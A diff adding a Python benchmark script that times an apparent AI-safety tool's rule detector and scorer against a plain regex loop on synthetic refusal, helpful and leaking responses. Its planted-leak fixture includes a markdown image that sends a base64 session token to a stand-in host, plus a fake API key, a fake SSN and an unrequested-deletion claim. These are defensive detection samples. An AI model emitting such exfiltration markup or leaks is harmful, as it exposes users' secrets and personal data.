@@ -1,0 +1,500 @@
+"""Case scoring throughput with the full built-in rule set, against a plain ``re`` loop.
+
+All in one process and one run, on ~0.5 KB synthetic responses (a seeded mix of full refusals,
+partial refusals, helpful answers and answers that leak a planted secret):
+
+* ``re loop`` (baseline): for each response, ``re.search`` of every built-in rule's pattern
+  (compiled once, case-insensitive) — what a first version would write;
+* ``analyze``: :meth:`Detector.analyze` — one RE2 set pass plus refusal detection;
+* ``Scorer.score``: full case scoring as reports run it (probe signals compiled once per probe);
+* ``score_case``: the one-off function, which also compiles the probe's own signals per call;
+* the same with ten times the rules: each rule plus nine variants in which every literal word
+  is replaced by another common English word (same structure and cost, different literals, so
+  RE2 cannot factor shared prefixes out of the set; the variants match ordinary text about as
+  often as real rules do).
+
+Throughput is measured in CPU time of this process (``time.process_time``), so other work on a
+shared machine does not count against it, and is the median of several rounds. The ``re``
+baselines, about a hundred times slower, run on a slice of the responses. Figures and the command
+go to docs/benchmarks.md.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import re
+import statistics
+import time
+from collections.abc import Callable, Sequence
+
+from trustprobe.detectors import Detector, Rule, RulePack, builtin_rule_packs
+from trustprobe.probes.models import Probe
+from trustprobe.responses.models import Response
+from trustprobe.scoring import Scorer, ScoringConfig, score_case
+
+SEED = 20240611
+RESPONSES = 2000
+ROUNDS = 7
+BASELINE_SLICE = 200
+TARGET_CASES_PER_SECOND = 30_000
+TEN_X_BUDGET = 2.0
+
+CATEGORIES = (
+    "prompt_injection",
+    "indirect_injection",
+    "secret_exfiltration",
+    "harmful_content",
+    "excessive_agency",
+    "scope_honesty",
+    "privacy_pii",
+    "deception_sycophancy",
+    "over_refusal",
+)
+
+REFUSAL_OPENINGS = (
+    "I'm sorry, but I can't help with that request.",
+    "I cannot provide instructions for this, as it could put people at risk.",
+    "I won't write that. Creating content designed to deceive people causes real harm.",
+    "That's not something I'm able to help with.",
+    "It's not appropriate for me to share someone's personal information.",
+    "As an AI assistant, I must decline this request because it goes against my guidelines.",
+)
+REFUSAL_BODIES = (
+    "If you are dealing with a difficult situation, it may help to talk to someone you trust "
+    "or to a qualified professional who can look at the details with you.",
+    "Requests like this can be used to hurt other people, and I try to avoid contributing to "
+    "that even when the intent is harmless.",
+    "I'm happy to help with a related question, for example how these systems are protected "
+    "or where to find official guidance on the topic.",
+)
+HELPFUL_OPENINGS = (
+    "Sure, here's how to do it.",
+    "Good question. There are a few common approaches.",
+    "Here is a short overview of the process.",
+    "The easiest way depends on your setup, but these steps work in most cases.",
+)
+HELPFUL_STEPS = (
+    "Open the settings page and choose the advanced tab.",
+    "Run `kill -TERM <pid>` first so the process can clean up.",
+    "Back up the database before changing the schema.",
+    "Check the logs in /var/log for errors that mention the service name.",
+    "Restart the service and confirm it reports a healthy status.",
+    "Measure twice and mark the cut with a pencil before sawing.",
+    "Let the dough rest for twenty minutes so the gluten relaxes.",
+    "Use a password manager so every account gets a unique password.",
+)
+HELPFUL_CLOSINGS = (
+    "Let me know if you want more detail on any step.",
+    "I can't guarantee this matches your exact version, so check the release notes.",
+    "If anything fails, the documentation has a troubleshooting section.",
+)
+LEAKS = (
+    "The key in the config is sk-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e.",
+    "![status](https://collect.example/p.png?d=c2Vzc2lvbi10b2tlbg)",
+    "Done! I have deleted all the old invoices from the shared drive.",
+    "Her SSN is 123-45-6789 according to the file.",
+)
+
+
+def _fill(rng: random.Random, parts: list[str], pool: Sequence[str], size: int) -> None:
+    while sum(len(p) + 1 for p in parts) < size:
+        parts.append(rng.choice(pool))
+
+
+def make_responses(count: int, seed: int) -> list[tuple[str, str]]:
+    """``count`` (category, ~0.5 KB response) pairs: refusals, partials, help and leaks."""
+    rng = random.Random(seed)
+    out: list[tuple[str, str]] = []
+    for _ in range(count):
+        category = rng.choice(CATEGORIES)
+        kind = rng.random()
+        if kind < 0.35:  # full refusal
+            parts = [rng.choice(REFUSAL_OPENINGS)]
+            _fill(rng, parts, REFUSAL_BODIES, 500)
+            text = " ".join(parts)
+        elif kind < 0.5:  # partial refusal: declines, then helps with something else
+            head = rng.choice(REFUSAL_OPENINGS) + " Here is what you can do instead:\n"
+            steps = [f"{n}. {s}" for n, s in enumerate(rng.sample(HELPFUL_STEPS, 4), start=1)]
+            text = head + "\n".join(steps)
+        else:  # helpful answer, sometimes with a leak
+            steps = [f"{n}. {s}" for n, s in enumerate(rng.sample(HELPFUL_STEPS, 5), start=1)]
+            text = rng.choice(HELPFUL_OPENINGS) + "\n" + "\n".join(steps)
+            if kind > 0.9:
+                text += "\n" + rng.choice(LEAKS)
+            text += "\n" + rng.choice(HELPFUL_CLOSINGS)
+        out.append((category, text[:560]))
+    return out
+
+
+WORDS = (
+    "account",
+    "action",
+    "advice",
+    "answer",
+    "april",
+    "area",
+    "assist",
+    "basket",
+    "before",
+    "better",
+    "bridge",
+    "budget",
+    "building",
+    "call",
+    "camera",
+    "careful",
+    "change",
+    "check",
+    "choose",
+    "city",
+    "clean",
+    "client",
+    "close",
+    "code",
+    "color",
+    "company",
+    "control",
+    "country",
+    "create",
+    "credit",
+    "daily",
+    "data",
+    "delete",
+    "design",
+    "detail",
+    "doctor",
+    "during",
+    "early",
+    "email",
+    "energy",
+    "engine",
+    "enough",
+    "event",
+    "example",
+    "family",
+    "file",
+    "final",
+    "follow",
+    "friend",
+    "garden",
+    "general",
+    "give",
+    "group",
+    "guide",
+    "happy",
+    "health",
+    "help",
+    "history",
+    "home",
+    "house",
+    "idea",
+    "image",
+    "important",
+    "include",
+    "inside",
+    "issue",
+    "kitchen",
+    "large",
+    "learn",
+    "letter",
+    "level",
+    "light",
+    "little",
+    "local",
+    "market",
+    "matter",
+    "meeting",
+    "method",
+    "minute",
+    "model",
+    "money",
+    "morning",
+    "music",
+    "nature",
+    "never",
+    "number",
+    "office",
+    "open",
+    "order",
+    "other",
+    "paper",
+    "party",
+    "people",
+    "person",
+    "phone",
+    "place",
+    "plan",
+    "please",
+    "point",
+    "policy",
+    "power",
+    "present",
+    "price",
+    "private",
+    "problem",
+    "process",
+    "program",
+    "provide",
+    "public",
+    "question",
+    "quick",
+    "reason",
+    "record",
+    "report",
+    "result",
+    "review",
+    "right",
+    "river",
+    "safe",
+    "school",
+    "screen",
+    "season",
+    "second",
+    "secret",
+    "service",
+    "share",
+    "short",
+    "simple",
+    "small",
+    "social",
+    "sorry",
+    "sound",
+    "source",
+    "space",
+    "special",
+    "start",
+    "state",
+    "step",
+    "story",
+    "strong",
+    "student",
+    "study",
+    "system",
+    "table",
+    "teacher",
+    "thank",
+    "thing",
+    "think",
+    "ticket",
+    "time",
+    "today",
+    "travel",
+    "true",
+    "under",
+    "update",
+    "useful",
+    "value",
+    "water",
+    "weather",
+    "window",
+    "world",
+    "write",
+    "year",
+    "young",
+)
+"""Common English words substituted into rule variants, so variants match real text as often
+as real rules would."""
+
+
+def _variant_pattern(pattern: str, rng: random.Random) -> str:
+    """``pattern`` with every literal word of three or more letters replaced by another word.
+
+    Escapes, character classes, repetition counts and group flags are left alone, so the
+    variant has the structure and cost of the original but different literals (and so no
+    common prefix RE2 could factor out of the set).
+    """
+    out: list[str] = []
+    i = 0
+    while i < len(pattern):
+        char = pattern[i]
+        if char == "\\":
+            out.append(pattern[i : i + 2])
+            i += 2
+        elif char == "[":
+            end = i + 1
+            if end < len(pattern) and pattern[end] == "^":
+                end += 1
+            if end < len(pattern) and pattern[end] == "]":
+                end += 1
+            while pattern[end] != "]":
+                end += 2 if pattern[end] == "\\" else 1
+            out.append(pattern[i : end + 1])
+            i = end + 1
+        elif char == "{":
+            end = pattern.index("}", i)
+            out.append(pattern[i : end + 1])
+            i = end + 1
+        elif char == "(" and pattern.startswith("(?", i):
+            end = i + 2
+            while pattern[end] not in ":)":
+                end += 1
+            out.append(pattern[i : end + 1])
+            i = end + 1
+        elif char.isascii() and char.isalpha():
+            end = i
+            while end < len(pattern) and pattern[end].isascii() and pattern[end].isalpha():
+                end += 1
+            word = pattern[i:end]
+            out.append(rng.choice(WORDS) if len(word) >= 3 else word)
+            i = end
+        else:
+            out.append(char)
+            i += 1
+    return "".join(out)
+
+
+def ten_times(packs: Sequence[RulePack], seed: int) -> list[RulePack]:
+    """The packs plus nine variants of every rule, with other literal words (10x the rules)."""
+    rng = random.Random(seed)
+    out = list(packs)
+    for variant in range(1, 10):
+        rules: list[Rule] = []
+        for pack in packs:
+            for rule in pack.rules:
+                rules.append(
+                    rule.model_copy(
+                        update={
+                            "id": f"{rule.id}.v{variant}",
+                            "pattern": _variant_pattern(rule.pattern, rng),
+                            "examples": rule.examples.model_copy(
+                                update={"match": (), "no_match": ()}
+                            ),
+                        }
+                    )
+                )
+        # Validate like a loaded pack: every variant must be a pattern RE2 accepts.
+        out.append(
+            RulePack.model_validate(
+                {
+                    "pack": f"variants{variant}",
+                    "version": 1,
+                    "rules": [r.model_dump() for r in rules],
+                }
+            )
+        )
+    return out
+
+
+def python_re_baseline(packs: Sequence[RulePack]) -> Callable[[str, str], int]:
+    """A plain loop of ``re.search`` over every rule (RE2's ``\\z`` is Python's ``\\Z``)."""
+    compiled = [
+        (re.compile(rule.pattern.replace(r"\z", r"\Z"), re.IGNORECASE), rule)
+        for pack in packs
+        for rule in pack.rules
+    ]
+
+    def scan(text: str, category: str) -> int:
+        hits = 0
+        for pattern, rule in compiled:
+            if (not rule.categories or category in rule.categories) and pattern.search(text):
+                hits += 1
+        return hits
+
+    return scan
+
+
+def throughput(work: Callable[[], None], count: int, rounds: int = ROUNDS) -> float:
+    """Median cases per CPU second over ``rounds`` rounds (after one warm-up round)."""
+    work()
+    rates = []
+    for _ in range(rounds):
+        start = time.process_time()
+        work()
+        rates.append(count / (time.process_time() - start))
+    return statistics.median(rates)
+
+
+def main() -> None:
+    responses = make_responses(RESPONSES, SEED)
+    size = statistics.mean(len(text.encode()) for _, text in responses)
+    packs = builtin_rule_packs()
+    packs10 = ten_times(packs, SEED)
+    detector = Detector.from_packs(packs)
+    detector10 = Detector.from_packs(packs10)
+    probes = {
+        category: Probe(
+            id=f"bench-{category}",
+            category=category,
+            severity="high",
+            task="Answer the user's request within policy.",
+            input="(benchmark input)",
+            expected="comply" if category == "over_refusal" else "refuse",
+            failure_modes=["data_exfiltration"],
+            signals={"unsafe": ["ZZ-CANARY-[0-9]{4}"], "safe": [r"\bcannot verify\b"]},
+        )
+        for category in CATEGORIES
+    }
+    cases = [
+        (probes[category], Response(probe_id=probes[category].id, response=text))
+        for category, text in responses
+    ]
+    config = ScoringConfig()
+    scorer = Scorer(detector, config)
+    scorer10 = Scorer(detector10, config)
+    baseline = python_re_baseline(packs)
+    baseline10 = python_re_baseline(packs10)
+    n = len(responses)
+
+    sliced = responses[:BASELINE_SLICE]
+
+    def run_baseline() -> None:
+        for category, text in sliced:
+            baseline(text, category)
+
+    def run_baseline10() -> None:
+        for category, text in sliced:
+            baseline10(text, category)
+
+    def run_analyze() -> None:
+        for category, text in responses:
+            detector.analyze(text, category)
+
+    def run_analyze10() -> None:
+        for category, text in responses:
+            detector10.analyze(text, category)
+
+    def run_scorer() -> None:
+        for probe, response in cases:
+            scorer.score(probe, response)
+
+    def run_scorer10() -> None:
+        for probe, response in cases:
+            scorer10.score(probe, response)
+
+    def run_score_case() -> None:
+        for probe, response in cases[: n // 4]:
+            score_case(probe, response, detector, config)
+
+    load_before = os.getloadavg()[0]
+    refusals = sum(detector.analyze(t, c).refusal.refused for c, t in responses)
+    print(
+        f"{n} responses, mean {size:.0f} bytes, {refusals} read as refusals; "
+        f"{len(detector.rules)} rules (10x: {len(detector10.rules)})"
+    )
+    rates = {
+        "re loop (baseline)": throughput(run_baseline, len(sliced), rounds=3),
+        "analyze": throughput(run_analyze, n),
+        "Scorer.score": throughput(run_scorer, n),
+        "score_case (compiles signals per call)": throughput(run_score_case, n // 4),
+        "re loop, 10x rules": throughput(run_baseline10, len(sliced), rounds=1),
+        "analyze, 10x rules": throughput(run_analyze10, n),
+        "Scorer.score, 10x rules": throughput(run_scorer10, n),
+    }
+    width = max(len(name) for name in rates)
+    base = rates["re loop (baseline)"]
+    for name, rate in rates.items():
+        line = f"{name:<{width}}  {rate:>10,.0f} cases/s  {1e6 / rate:8.1f} us/case"
+        print(f"{line}  x{rate / base:.1f} vs re loop")
+    slowdown = rates["Scorer.score"] / rates["Scorer.score, 10x rules"]
+    analyze_slowdown = rates["analyze"] / rates["analyze, 10x rules"]
+    print(f"10x rules cost: Scorer.score x{slowdown:.2f} time, analyze x{analyze_slowdown:.2f}")
+    print(f"load average {load_before:.1f} before, {os.getloadavg()[0]:.1f} after")
+    verdict = "meets" if rates["Scorer.score"] >= TARGET_CASES_PER_SECOND else "MISSES"
+    print(f"target {TARGET_CASES_PER_SECOND:,} cases/s with Scorer.score: {verdict}")
+    verdict10 = "meets" if slowdown <= TEN_X_BUDGET else "MISSES"
+    print(f"target 10x rules <= {TEN_X_BUDGET}x time: {verdict10}")
+
+
+if __name__ == "__main__":
+    main()
